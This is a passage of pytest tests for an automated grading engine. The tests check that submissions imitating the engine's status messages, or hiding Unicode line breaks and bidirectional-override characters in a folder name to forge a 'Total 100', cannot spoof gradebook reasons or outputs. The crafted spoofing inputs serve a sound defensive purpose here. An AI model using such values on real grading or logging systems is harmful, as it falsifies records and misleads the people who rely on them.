    assert rows["ada"][1] == "100", rows["ada"]


IMITATION = ("missing module; module refused at intake (a link, a device or too large); syntax error; "
             "not run: the grading's time budget of 90 s was used up; gaussian_mle is not implemented yet")


@pytest.mark.parametrize("user", ["root", "normal"])
def test_a_submission_imitating_the_engines_words_is_filed_under_no_reason(tmp_path, user):
    """A module that prints and raises the engine's own wording ("module refused at intake",
    "the grading's time budget of 90 s was used up") completed its grading: its gradebook reason
    is empty and the class report counts it among the zeros, not among the gradings that could
    not complete, nor as "nothing implemented" (reasons come from the engine's structured
    fields, never from output text)."""
    run, folder = _class_folder(user, tmp_path, "imitate")
    source = stub_source("mle").replace("raise NotImplementedError", f"raise RuntimeError({IMITATION!r})  #")
    write(folder / "mallory", "mle", f"print({IMITATION!r})\n" + source)
    write(folder / "ada", "mle", reference_source("mle"))
    write(folder / "stub", "mle", stub_source("mle"))
    proc, rows, results = _grade_all(run, folder, "--feedback", str(folder.parent / "feedback"))
    assert rows["mallory"][1] == "0" and rows["mallory"][2] == "", rows["mallory"]
    assert results["mallory"]["autograder"]["reason"] == ""
    assert set(results["mallory"]["autograder"]["failures"].values()) == {"exception"}
    assert "    stub: nothing implemented" in proc.stdout  # the engine's field says so, for the stub only
    assert "    mallory: every test failed" in proc.stdout, proc.stdout
    assert "could not complete" not in proc.stdout and "Could not be graded in full" not in proc.stdout, proc.stdout
    assert "<b>0</b>could not complete" in (folder.parent / "feedback" / "class.html").read_text()


HIDDEN_CHARS = "\x85\u2028\u2029\u200f\u202e\u2066"


@pytest.mark.parametrize("user", ["root", "normal"])
def test_unicode_line_breaks_and_direction_marks_never_reach_an_output_unquoted(tmp_path, user):
    """U+0085, U+2028, U+2029 (line breaks the old filter let through) and the direction marks
    U+200F, U+202E, U+2066 in a folder name and in what the code prints reach no output as they
    are: not the terminal, the CSV, results.json, the feedback pages or the class report."""
    run, folder = _class_folder(user, tmp_path, "unicode")
    name = "ev\u202eil\u200f\u2028Total 100\u2029x\x85y\u2066"
    write(folder / name, "mle", f"print({('a' + HIDDEN_CHARS + 'Total: 100 / 100')!r})\n" + reference_source("mle"))
    proc, rows, results = _grade_all(run, folder, "--feedback", str(folder.parent / "feedback"))
    assert len(rows) == 1 and list(rows.values())[0][1] == "100"
    outputs = {"stdout": proc.stdout, "stderr": proc.stderr,
               "csv": (folder.parent / "gradebook.csv").read_text(encoding="utf-8"),
               "results.json": json.dumps(results, ensure_ascii=False)}
    outputs.update({p.name: p.read_text(encoding="utf-8") for p in (folder.parent / "feedback").iterdir()
                    if p.suffix in (".html", ".md")})
    assert len(outputs) >= 7, sorted(outputs)  # a page, its Markdown and the class report
    assert "\\u2028" in outputs["csv"] and "\\u2028" in outputs["results.json"]  # shown, escaped
    for where, text in outputs.items():
        assert not set(text) & set(HIDDEN_CHARS), (where, [c for c in text if c in HIDDEN_CHARS][:5])
